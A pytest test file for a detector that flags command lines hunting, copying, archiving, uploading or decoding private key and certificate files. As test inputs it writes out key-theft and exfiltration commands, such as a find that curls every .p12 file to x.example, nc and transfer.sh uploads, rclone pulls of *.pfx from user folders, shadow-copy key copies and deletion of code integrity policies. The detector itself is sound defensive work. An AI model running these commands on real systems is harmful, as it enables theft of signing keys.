"""Key and certificate files as operands of any program: hunted, copied, packed, sent, fetched, decoded, printed."""

from __future__ import annotations

import pytest
from codesignrisk_core import keyfiles
from codesignrisk_core.cmdline import argv
from codesignrisk_core.keyfiles import naming
from codesignrisk_core.model import Command, Report, Token
from hypothesis import given
from hypothesis import strategies as st


def judged(line: str, cwd: str = "") -> Report | None:
    tokens = argv.split(line)
    return keyfiles.judge(Command(tokens[0].text, tokens, line, cwd))


def judged_posix(line: str) -> Report | None:
    tokens = argv.split_posix(line)
    return keyfiles.judge(Command("/usr/bin/" + tokens[0].text, tokens, line))


def found(report: Report | None) -> list[str]:
    return sorted(finding.indicator for finding in report.findings) if report else []


@pytest.mark.parametrize(
    ("line", "indicators"),
    [
        ("dir C:\\ /s /b *.pfx", ["hunt_key_files"]),
        ("dir /s/b D:\\*.p12", ["hunt_key_files"]),
        ("dir C:\\Users\\ann /s *.pvk", ["hunt_key_files"]),
        ("dir \\\\fs01\\c$ /s *.pfx", ["hunt_key_files", "input_remote"]),
        ("dir D:\\ /s .key", ["hunt_weak_key_files"]),
        # a whole home is searched for what may be keys all day; along with other secrets it is loot
        ("dir C:\\Users\\ann /s *.key", []),
        ("dir C:\\Users\\ann /s *.key *.txt", []),
        ("dir /s C:\\Users\\ann\\*.key C:\\Users\\ann\\*.kdbx", ["hunt_weak_key_files"]),
        ("dir C:\\Users\\ann\\ /s *pass* *.pem", ["hunt_weak_key_files"]),
        ("dir C:\\Users\\passat /s *.key", []),
        ("dir C:\\nginx\\conf /s *.key *pass*", []),
        ("dir C:\\ /s *.pfx *.p12", ["hunt_key_files", "several_key_kinds"]),
        ("dir /s /b *.pfx", ["search_key_files"]),
        ("dir C:\\certs\\web\\2024 /s *.pfx", ["search_key_files"]),
        ("dir C:\\certs\\*.pfx", ["list_key_files"]),
        ("dir C:\\nginx\\conf /s *.key", []),
        ("dir C:\\certs\\web.pfx", []),
        ("where /r C:\\ *.pfx", ["hunt_key_files"]),
        ("where openssl.exe", []),
        ('forfiles /p C:\\ /s /m *.p12 /c "cmd /c echo @path"', ["hunt_key_files"]),
        ('forfiles /p C:\\ /s /m *.p12 /c "cmd /c copy @path D:\\"', ["copy_key_files", "hunt_key_files"]),
        ("for /r C:\\Users %f in (*.pfx) do copy %f D:\\x", ["copy_key_files", "hunt_key_files"]),
        ("es.exe ext:pfx;p12", ["hunt_key_files", "several_key_kinds"]),
        ("es.exe -path C:\\work\\app\\src *.pfx", ["search_key_files"]),
        ("wmic datafile where \"extension='pfx'\" get name", ["hunt_key_files"]),
        ('findstr /s /m /c:"BEGIN RSA PRIVATE KEY" C:\\*', ["hunt_key_files"]),
        ('findstr /s /m "BEGIN PRIVATE KEY" *.*', ["hunt_key_files"]),
        ("findstr /e .pfx", ["list_key_files"]),
        ('findstr /s /i ".pfx" *.config', []),
        ('findstr /s "PRIVATE KEY" *.py', []),
        ("findstr /s /i BEGIN.RSA.PRIVATE.KEY C:\\Users\\*", ["hunt_key_files"]),
        ("findstr /s private.api.key C:\\Users\\*", []),
        ('find /i ".pfx" list.txt', []),
    ],
)
def test_searches_on_windows(line: str, indicators: list[str]) -> None:
    assert found(judged(line)) == indicators


@pytest.mark.parametrize(
    ("line", "indicators"),
    [
        ("find / -name *.p12", ["hunt_key_files"]),
        ("find / -name '*.p12' -o -name '*.jks'", ["hunt_key_files", "several_key_kinds"]),
        ("find / -regex '.*\\.\\(pfx\\|p12\\)'", ["hunt_key_files", "several_key_kinds"]),
        ("find ~ -iname *.pfx", ["hunt_key_files"]),
        (
            "find / -name *.p12 -exec curl -F f=@{} https://x.example/ ;",
            ["copy_key_files", "hunt_key_files", "key_leaves_host"],
        ),
        ("find / -name *.p12 -exec cp {} /srv ;", ["copy_key_files", "hunt_key_files"]),
        ("find / -name *.p12 -exec cp {} /tmp/k ;", ["copy_key_files", "hunt_key_files", "output_user_writable"]),
        ("find . -name *.p12", ["search_key_files"]),
        ("find / -name *.pem", ["hunt_weak_key_files"]),
        ("find / -name cacert.pem", []),
        ("find /etc -name *.key", []),
        ("find / -name web.pfx.txt", []),
        ("fd -e pfx . /", ["hunt_key_files"]),
        ("locate .p12", ["hunt_key_files"]),
        ("mdfind -name .p12", ["hunt_key_files"]),
        ("mdfind -onlyin /work/app/src .p12", ["search_key_files"]),
        ("grep -rl BEGIN PRIVATE KEY /", ["hunt_key_files"]),
        ("grep -rn BEGIN PRIVATE KEY src", []),
        ("grep -E '\\.(pfx|p12)$'", ["list_key_files"]),
    ],
)
def test_searches_on_posix(line: str, indicators: list[str]) -> None:
    assert found(judged_posix(line)) == indicators


@pytest.mark.parametrize(
    ("cwd", "indicators"),
    [("C:\\", ["hunt_key_files"]), ("C:\\Users", ["hunt_key_files"]), ("C:\\src\\app\\lib", ["search_key_files"])],
)
def test_a_search_begins_where_the_shell_stands(cwd: str, indicators: list[str]) -> None:
    assert found(judged("dir /s *.pfx", cwd)) == indicators


@pytest.mark.parametrize(
    ("line", "indicators"),
    [
        ("copy web.pfx C:\\inetpub\\ssl", ["copy_key_file"]),
        ("copy C:\\certs\\*.pfx D:\\x", ["copy_key_files"]),
        ("copy C:\\c\\web.pfx \\\\fs01\\drop", ["copy_key_file", "key_to_share"]),
        ("copy C:\\c\\web.pfx F:\\", ["copy_key_file", "key_to_other_drive"]),
        ("copy C:\\c\\web.pfx C:\\Users\\Public\\note.txt", ["copy_key_file", "key_disguised", "output_user_writable"]),
        ("copy C:\\Users\\*\\web.pfx D:\\x", ["copy_key_files", "hunt_key_files", "key_other_profile"]),
        # a wildcard that reaches into all folders of a home or drive is a search, too
        ("xcopy C:\\Users\\*.pfx D:\\x /s", ["copy_key_files", "hunt_key_files"]),
        ("xcopy C:\\Users\\*.pfx D:\\x", ["copy_key_files"]),
        ("robocopy C:\\ D:\\x *.p12 /e", ["copy_key_files", "hunt_key_files"]),
        ("robocopy C:\\work\\certs D:\\x *.p12 /e", ["copy_key_files"]),
        ("robocopy C:\\w \\\\198.51.100.7\\in *.pfx", ["copy_key_files", "key_to_outside", "key_to_share"]),
        ("robocopy C:\\w \\\\10.0.0.7\\in *.pfx", ["copy_key_files", "key_to_share"]),
        # App Control's policies
        ("del /f C:\\Windows\\System32\\CodeIntegrity\\SiPolicy.p7b", ["code_integrity_policy"]),
        ("del C:\\Windows\\System32\\CodeIntegrity\\CiPolicies\\Active\\*.cip", ["code_integrity_policy"]),
        ("copy SiPolicy.p7b C:\\Windows\\System32\\CodeIntegrity\\SiPolicy.p7b", ["code_integrity_policy"]),
        ("del C:\\certs\\chain.p7b", []),
        ("copy C:\\Users\\ann\\w.pfx C:\\Users\\bob\\x", ["copy_key_file", "key_other_profile"]),
        ("copy C:\\Users\\ann\\w.pfx C:\\Users\\ann\\x", ["copy_key_file"]),
        ("copy server.key C:\\nginx\\conf", []),
        ("copy /y ..\\app.snk obj", []),
        ("copy server.key \\\\fs01\\drop", ["copy_key_file", "key_to_share"]),
        ("copy web.pfx.txt D:\\x", []),
        ("xcopy C:\\certs\\*.p12 D:\\x /s /y", ["copy_key_files"]),
        ("xcopy %APPDATA%\\Microsoft\\Crypto\\RSA D:\\x /s", ["copy_key_files"]),
        ("robocopy C:\\certs \\\\nas\\b *.pfx *.p12 /s", ["copy_key_files", "key_to_share", "several_key_kinds"]),
        ("robocopy C:\\work D:\\backup /mir /xf *.pfx *.key", []),
        ("esentutl /y C:\\c\\w.pfx /d D:\\w.pfx /vss", ["copy_key_file", "from_shadow_copy"]),
        ("esentutl /y /vss C:\\c\\w.pfx /d D:\\w.pfx", ["copy_key_file", "from_shadow_copy"]),
        ("esentutl /d C:\\c\\w.pfx", []),
        (
            "copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy2\\c\\w.key D:\\x",
            ["copy_key_file", "from_shadow_copy"],
        ),
        ("type C:\\c\\w.pvk", ["show_key_file"]),
        ("type C:\\c\\w.pfx > \\\\fs01\\d\\w.pfx", ["copy_key_file", "key_to_share"]),
        ("type ca.pem", []),
    ],
)
def test_copies_on_windows(line: str, indicators: list[str]) -> None:
    assert found(judged(line)) == indicators


@pytest.mark.parametrize(
    ("line", "indicators"),
    [
        ("cp a.p12 /srv/app", ["copy_key_file"]),
        ("cp -t /tmp a.p12 b.jks", ["copy_key_files", "output_user_writable", "several_key_kinds"]),
        ("cp /Users/ann/Library/Keychains/login.keychain-db /Volumes/USB", ["copy_key_files", "key_to_other_drive"]),
        ("cp /Users/ann/Library/Application Support/x.p12 /srv", ["copy_key_file"]),
        ("cp server.key /etc/nginx/ssl", []),
        ("cat /etc/ssl/private/server.key", ["show_key_file"]),
        ("cat a.pem b.pem", []),
        ("base64 -d -o /srv/a.p12 a.txt", ["decode_key_file"]),
        ("base64 --decode a.txt > a.p12", ["decode_key_file"]),
        ("base64 a.p12", ["encode_key_file"]),
        ("base64 -w0 /srv/secrets/a.p12", ["encode_key_file", "from_secrets_folder"]),
        ("base64 a.pem", []),
        ("base64 a.png", []),
    ],
)
def test_copies_on_posix(line: str, indicators: list[str]) -> None:
    assert found(judged_posix(line)) == indicators


@pytest.mark.parametrize("verb", ["cp ca.crt", "mv ca.pem", "curl -so", "wget -qO"])
@pytest.mark.parametrize("folder", ["/usr/local/share/ca-certificates", "/etc/pki/ca-trust/source/anchors"])
def test_a_certificate_in_a_folder_of_anchors_is_a_store_write(verb: str, folder: str) -> None:
    rest = " http://host/ca.crt" if verb.startswith(("curl", "wget")) else ""
    report = judged_posix(f"{verb} {folder}/ca.crt{rest}")
    assert report is not None
    assert (found(report), report.store) == (["add_to_store_root"], "linux\\root")
    assert report.flags == {"CertImport", "TrustedStoreTarget"}


@pytest.mark.parametrize(
    ("line", "indicators", "secrets"),
    [
        ("7z a C:\\Users\\ann\\b.7z C:\\Users\\ann\\w.pfx", ["archive_key_file"], []),
        ("7z a -pletmein o.7z w.pfx", ["archive_key_file", "archive_password"], ["letmein"]),
        ("7z a -r o.7z C:\\*.pfx C:\\*.pvk", ["archive_key_files", "hunt_key_files", "several_key_kinds"], []),
        ("7z a o.7z C:\\data -ir!*.pfx", ["archive_key_files"], []),
        ("7z a o.7z C:\\data -xr!*.pfx", [], []),
        ("7z x o.7z w.pfx", [], []),
        ("rar a -hpletmein o.rar *.p12", ["archive_key_files", "archive_password"], ["letmein"]),
        ("svc.exe a -hpletmein o.rar *.p12", ["archive_key_files", "archive_password"], ["letmein"]),
        ("zip -r -P letmein o.zip a.p12", ["archive_key_file", "archive_password"], ["letmein"]),
        ("zip -r o.zip src -x *.p12", [], []),
        ("zip -r o.zip site server.key", [], []),
        ("tar czf o.tgz a.p12", ["archive_key_file"], []),
        ("tar xzf o.tgz a.p12", [], []),
        ("tar -czf o.tgz --exclude *.p12 site", [], []),
        ("makecab w.pfx w.cab", ["archive_key_file"], []),
        ("7z a docs.zip notes.pfx.txt", [], []),
    ],
)
def test_archives(line: str, indicators: list[str], secrets: list[str]) -> None:
    report = judged(line)
    assert found(report) == indicators
    if report is not None:
        assert report.secrets == secrets
        assert not any("letmein" in finding.sentence for finding in report.findings)


@pytest.mark.parametrize(
    ("line", "indicators"),
    [
        ("curl -T w.pfx https://host/", ["upload_key_file"]),
        ("curl -F file=@C:\\c\\w.pfx;type=x https://host/", ["upload_key_file"]),
        ("curl --data-binary @w.key https://host/", ["upload_key_file"]),
        ("curl -sF f=@ca.pem https://host/", ["upload_pem_file"]),
        ("curl --cert c.pem --key k.key --cacert ca.pem https://host/", []),
        ("curl -d user@example.org https://host/x.key", []),
        ("curl -o w.pfx https://host/x", ["fetch_key"]),
        ("curl -sO https://host/w.pfx?x=1", ["fetch_key"]),
        ("curl -o ca.crt https://host/ca.crt", ["fetch_certificate"]),
        ("curl -o release.key https://host/release.key", []),
        ("wget --post-file=w.p12 https://host/", ["upload_key_file"]),
        ("wget https://host/w.p12", ["fetch_key"]),
        ("scp w.pfx ann@host:/srv", ["upload_key_file"]),
        ("scp -i login.pem app.jar ann@host:/srv", []),
        ("scp ann@host:/srv/w.pfx .", ["fetch_key"]),
        ("pscp -pw letmein C:\\c\\w.pfx ann@host:/srv", ["upload_key_file"]),
        ("rsync -a w.jks host:/srv", ["upload_key_file"]),
        ("rclone copy C:\\Users cloud:x --include *.pfx", ["hunt_key_files", "upload_key_file"]),
        (
            "rclone copy C:\\Users cloud:x --max-size 5M --include *.{pfx,p12}",
            ["hunt_key_files", "several_key_kinds", "upload_key_file"],
        ),
        ("rclone copy cloud:x C:\\w --include *.pfx", []),
        ("curl -T w.pfx https://transfer.sh/w", ["key_to_outside", "upload_key_file"]),
        ("curl -T w.pfx https://198.51.100.7/", ["key_to_outside", "upload_key_file"]),
        ("scp w.jks root@198.51.100.7:/tmp/", ["key_to_outside", "upload_key_file"]),
        ("scp w.jks root@192.168.0.7:/tmp/", ["upload_key_file"]),
        ("rclone copy C:\\Users cloud:x --exclude *.pfx", []),
        ("aws s3 cp w.pfx s3://bucket/", ["upload_key_file"]),
        ("aws s3 cp s3://bucket/w.pfx .", ["fetch_key"]),
        ("azcopy copy w.pfx https://host/c", ["upload_key_file"]),
        ("bitsadmin /transfer j /upload http://host/w.pfx C:\\c\\w.pfx", ["upload_key_file"]),
        ("bitsadmin /transfer j http://host/w.pfx C:\\c\\w.pfx", ["fetch_key"]),
        ("tftp -i host PUT w.pfx", ["upload_key_file"]),
        ('winscp.com /command "open sftp://host" "put C:\\c\\w.pfx"', ["upload_key_file"]),
        ("nc host 4444 < w.p12", ["upload_key_file"]),
    ],
)
def test_network(line: str, indicators: list[str]) -> None:
    report = judged(line)
    assert found(report) == indicators
    assert report is None or not any("letmein" in finding.sentence for finding in report.findings)


@pytest.mark.parametrize(
    "line",
    [
        "notepad.exe C:\\certs\\web.pfx",
        "code.exe deploy\\server.key",
        'git commit -m "copy web.pfx to the share"',
        "git add certs\\dev.pem",
        'nginx -c nginx.conf -g "ssl_certificate_key server.key;"',
        "node server.js --cert server.pem --key server.key",
        "openvpn --cert client.crt --key client.key",
        "echo dir C:\\ /s *.pfx",
        "signtool sign /f web.pfx a.exe",
        "certutil -dump web.pfx",
        "del web.pfx",
    ],
)
def test_mentions_and_everyday_use_are_no_actions(line: str) -> None:
    assert judged(line) is None


def test_a_line_ends_at_the_pipe() -> None:
    report = judged("dir D:\\ /s .key | findstr /i .key")
    assert found(report) == ["hunt_weak_key_files"]


def test_operands_are_kept_in_their_normal_form() -> None:
    report = judged("copy ..\\Keys\\Web.PFX D:\\x", "C:\\Work\\App")
    assert report is not None
    assert (report.tool, report.action, report.files) == ("copy", "copy_key", ["c:\\work\\keys\\web.pfx"])


@pytest.mark.parametrize(
    ("text", "kinds"),
    [
        ("*.pfx", {"pfx"}),
        (".key", {"key"}),
        ("\\.(pfx|p12)$", {"pfx", "p12"}),
        ("*.{pfx,p12}", {"pfx", "p12"}),
        ("ext:pfx;p12", {"pfx", "p12"}),
        ("login.keychain-db", {"keychain-db"}),
        ("web.pfx.txt", set()),
        ("keyboard.keys", set()),
        ("monkey", set()),
    ],
)
def test_kinds_end_a_name(text: str, kinds: set[str]) -> None:
    assert naming.kinds(text) == kinds


_WORDS = st.one_of(
    st.text(max_size=10),
    st.sampled_from(["*.pfx", "a.p12", "/s", "-r", ">", "<", "a", "C:\\", "/", "-name", "s3://b/", "in", "do", "-x"]),
)


@pytest.mark.slow
@given(st.sampled_from([*sorted(keyfiles._READERS), "other", ""]), st.lists(_WORDS, max_size=12), st.booleans())
def test_never_raises(name: str, words: list[str], posix: bool) -> None:
    image = f"/usr/bin/{name}" if posix else name
    tokens = tuple(Token(word, word) for word in [name, *words] if word)
    keyfiles.judge(Command(image, tokens, " ".join([name, *words, ".pfx"])))
